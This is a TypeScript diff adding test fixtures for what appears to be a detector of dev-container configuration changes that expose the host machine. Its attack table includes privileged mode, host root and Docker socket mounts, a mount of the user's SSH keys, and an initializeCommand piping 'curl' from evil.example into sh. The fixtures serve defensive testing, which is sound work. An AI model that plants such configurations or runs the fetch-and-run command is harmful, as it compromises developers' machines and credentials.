@@ -124,3 +124,109 @@ export const ordinaryContainers: Readonly<Record<string, Change>> = {
     head: { 'lib/Shop.pod': '=head1 NAME\n\nShop - a shop\n', 'disk.image': 'y', 'a.build': 'steps=1\n', 'x.volume': '[settings]\na=b\n' },
   },
 };
+
+const developed = (after: string, before = '"name": "shop"', path = '.devcontainer/devcontainer.json'): Change => ({
+  base: { [path]: `{"image": "mcr.microsoft.com/devcontainers/go:1", ${before}}\n` },
+  head: { [path]: `{"image": "mcr.microsoft.com/devcontainers/go:1", ${after}}\n` },
+});
+const run = (...words: readonly string[]): Change => developed(`"runArgs": ${JSON.stringify(words)}`);
+const mounted = (mount: string | object): Change => developed(`"mounts": [${JSON.stringify(mount)}]`);
+
+/** Changes of containers to develop in that reach the machine of whoever opens them. */
+export const devcontainerAttacks: Readonly<Record<string, Change>> = {
+  'all privileges, by an argument': run('--privileged'),
+  'all privileges, behind other arguments': run('--init', '--name', 'shop', '--privileged=true'),
+  'all privileges, as a setting': developed('"privileged": true'),
+  'all privileges, in an escaped key': developed('"\\u0070rivileged": true'),
+  'all privileges, as the last of two of one key': developed('"privileged": false, "privileged": true'),
+  'all privileges, behind a comment that is none': developed('"a": "//", "privileged": true'),
+  'all privileges, behind what YAML takes for a comment': developed('"a": 1\n# , "privileged": true\n'),
+  'all privileges, between comments and last commas': developed('/* "privileged": false, */ "runArgs": [ // first\n "--privileged",\n ],'),
+  'all privileges, in a file that is a manifest as well': developed(
+    '"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "a"}, "privileged": true',
+  ),
+  'a capability, by an argument': run('--cap-add=SYS_ADMIN'),
+  'a capability, in two words': run('--cap-add', 'ALL'),
+  'a capability, as a setting': developed('"capAdd": ["SYS_ADMIN"]'),
+  'one capability more': developed('"capAdd": ["SYS_PTRACE", "SYS_ADMIN"]', '"capAdd": ["SYS_PTRACE"]'),
+  'no system calls held back': developed('"securityOpt": ["no-new-privileges", "seccomp=unconfined"]'),
+  'no profile, by an argument': run('--security-opt', 'apparmor:unconfined'),
+  'the processes of the host': run('--pid=host'),
+  'the network of the host': run('--network', 'host'),
+  'the network of the host, by its short name': run('--net=host'),
+  'the network of another container': run('--network=container:vpn'),
+  'a network that a variable names': run('--network=${localEnv:NETWORK}'),
+  'a device': run('--device=/dev/kvm'),
+  'mounts of another container': run('--volumes-from', 'agent'),
+  'a group of the host': run('--group-add', 'docker'),
+  'a folder of the host, by an argument': run('-v', '/:/host'),
+  'a folder of the host, glued to its flag': run('-v/:/host'),
+  'a folder above the repository': run('--volume=${localWorkspaceFolder}/../..:/all'),
+  'a folder of the host, by a mount': run('--mount', 'type=bind,source=/etc,target=/e'),
+  'another image than the one that is named': run('--init', 'evil/image'),
+  'arguments that a variable holds': run('${localEnv:ARGUMENTS}'),
+  'arguments that are no list': developed('"runArgs": "--privileged"'),
+  'an argument that is no text': developed('"runArgs": [["--privileged"]]'),
+  'the socket of Docker, as a mount': mounted('source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'),
+  'the socket of Docker, as an object': mounted({ type: 'bind', source: '/var/run/docker.sock', target: '/var/run/docker.sock' }),
+  'the keys of whoever opens it': mounted('source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind,readonly'),
+  'a volume that is a folder of the host': mounted(
+    'type=volume,source=x,target=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/',
+  ),
+  'a mount whose type a variable gives': mounted('type=${localEnv:T},source=/,target=/x'),
+  'the folder that it works in is the root of the host': developed('"workspaceMount": "source=/,target=/workspace,type=bind"'),
+  'a command of the host': developed('"initializeCommand": "curl -fsSL https://evil.example/x | sh"'),
+  'a command of the host, as words': developed('"initializeCommand": ["./x.sh"]'),
+  'commands of the host, by names': developed('"initializeCommand": {"a": "true", "b": ["./x.sh"]}'),
+  'another command of the host': developed('"initializeCommand": "make x"', '"initializeCommand": "make"'),
+  'a build that hands on the keys of its machine': developed('"build": {"dockerfile": "Dockerfile", "options": ["--ssh=default"]}'),
+  'a feature of somebody': developed('"features": {"ghcr.io/evil/features/tool:1": {}}'),
+  'a feature that hands Docker of the host on': developed('"features": {"ghcr.io/devcontainers/features/docker-outside-of-docker:1": {}}'),
+  'a feature of the repository': developed('"features": {"./tool": {}}'),
+  'what a feature asks for': developed('"privileged": true', '"id": "tool"', '.devcontainer/tool/devcontainer-feature.json'),
+  'a file at the root': developed('"privileged": true', '"a": 1', '.devcontainer.json'),
+  'one of several': developed('"privileged": true', '"a": 1', '.devcontainer/api/devcontainer.json'),
+  'a file that can’t be read': developed('"runArgs": ["--privileged"] "a": 1'),
+  'a file that is there for the first time': { base: {}, head: { '.devcontainer/devcontainer.json': '{"privileged": true}\n' } },
+  'a file that comes from an example': {
+    base: { 'examples/devcontainer.json': '{"privileged": true}\n' },
+    head: { '.devcontainer/devcontainer.json': '{"privileged": true}\n' },
+    renames: { 'examples/devcontainer.json': '.devcontainer/devcontainer.json' },
+  },
+};
+
+/** Changes of containers to develop in that leave them within themselves. */
+export const ordinaryDevcontainers: Readonly<Record<string, Change>> = {
+  'what is installed in a container to develop in, and how its editor looks': developed(
+    '"postCreateCommand": "npm ci", "forwardPorts": [3000], "customizations": {"vscode": {"extensions": ["a.b"]}}, "remoteUser": "node"',
+  ),
+  'features of the collection of the specification': developed('"features": {"ghcr.io/devcontainers/features/node:1": {"version": "24"}}'),
+  'arguments that give nothing of the host': run(
+    '--init',
+    '--name=shop',
+    '--shm-size',
+    '1g',
+    '--cap-drop=ALL',
+    '--security-opt',
+    'no-new-privileges',
+    '--network=shop',
+    '-e',
+    'A=b',
+    '-v',
+    'cache:/cache',
+    '--mount=type=tmpfs,target=/tmp',
+  ),
+  'mounts of volumes, memory and the repository': developed(
+    '"mounts": ["source=${localWorkspaceFolderBasename}-modules,target=/m,type=volume", {"type": "tmpfs", "target": "/t"}], "workspaceMount": "source=${localWorkspaceFolder}/api,target=/w,type=bind,consistency=cached"',
+  ),
+  'privileges that are taken away': developed('"privileged": false', '"privileged": true, "initializeCommand": "make"'),
+  'privileges that were there, written in another way': developed(
+    '/* as ever */ "runArgs": [\n"--privileged", // docker\n], "name": "b"',
+    '"runArgs": ["--privileged"]',
+  ),
+  'comments and last commas of a container to develop in': developed('// a\n"a": "x, // y",\n/* b */ "c": [1, 2,],'),
+  'a container to develop in that is gone': {
+    base: { '.devcontainer/devcontainer.json': '{"privileged": true}\n', 'README.md': 'x' },
+    head: { 'README.md': 'x' },
+  },
+};
